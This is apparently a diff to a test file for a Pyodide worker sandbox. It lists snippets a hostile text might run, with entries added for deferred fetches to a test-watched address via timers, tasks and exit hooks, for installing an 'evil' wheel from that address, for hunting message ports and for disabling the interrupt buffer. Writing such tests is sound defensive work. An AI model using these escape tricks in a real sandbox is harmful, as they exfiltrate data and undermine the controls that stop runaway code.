@@ -1,4 +1,7 @@
-"""What a hostile text would try inside the worker: each prints ``out`` where it gets somewhere, and must not."""
+"""What a hostile text would try inside the worker: each prints ``out`` where it gets somewhere, and must not.
+
+What can only get somewhere later, or without knowing it, asks for an address below ``STOLEN``, where the test sees it.
+"""
 
 from __future__ import annotations
 
@@ -119,18 +122,40 @@ PYTHON = {
         print('held' if bytes(view) else 'out')""",
     "a timer that comes later": """
         from pyodide.ffi.wrappers import set_timeout
-        set_timeout(lambda: __import__('js').fetch, 1); print('held')""",
+        set_timeout(lambda: __import__('js').fetch(STOLEN + 'timer'), 1); print('held if nothing is asked')""",
     "a task that comes later": """
         import asyncio
-        async def later(): __import__('js').fetch
-        asyncio.get_event_loop().create_task(later()); print('held')""",
+        async def later(): __import__('js').fetch(STOLEN + 'task')
+        asyncio.get_event_loop().create_task(later()); print('held if nothing is asked')""",
+    "an exit that comes later": """
+        import atexit, weakref
+        class Left: pass
+        left = Left()
+        for name, when in (('exit', atexit.register), ('end', lambda last: weakref.finalize(left, last))):
+            when(lambda name=name: __import__('js').fetch(STOLEN + name))
+        del left
+        print('held if nothing is asked')""",
     "pip": """
         import asyncio, micropip
         asyncio.get_event_loop().run_until_complete(micropip.install('six')); print('out')""",
     "a wheel from an address": """
         import micropip
-        step = micropip.install('http://localhost/evil-1.0-py3-none-any.whl').send(None)
-        print('held')""",
+        try: micropip.install(STOLEN + 'evil-1.0-py3-none-any.whl').send(None)
+        except StopIteration: print('out')
+        else: print('held if nothing is asked')""",
+    "a message to the page": """
+        import sys
+        found = [name for name, module in list(sys.modules.items())
+                 for post in ('postMessage', 'onmessage', 'port', 'reply') if hasattr(module, post)]
+        print('out' if found else 'held', found)""",
+    "the buffer by which Python is interrupted": """
+        import pyodide_js
+        pyodide_js.setInterruptBuffer(None); print('out')""",
+    "what Python is asked by": """
+        import gc
+        kept = {'setInterruptBuffer', 'interruptBuffer', 'onmessage'}
+        found = [name for one in gc.get_objects() if isinstance(one, dict) for name in kept & set(map(str, one))]
+        print('out' if found else 'held', found)""",
     "the environment": "import os; print('out' if any('TOKEN' in name for name in os.environ) else 'held')",
     "what is typed": "print('out', input())",
 }
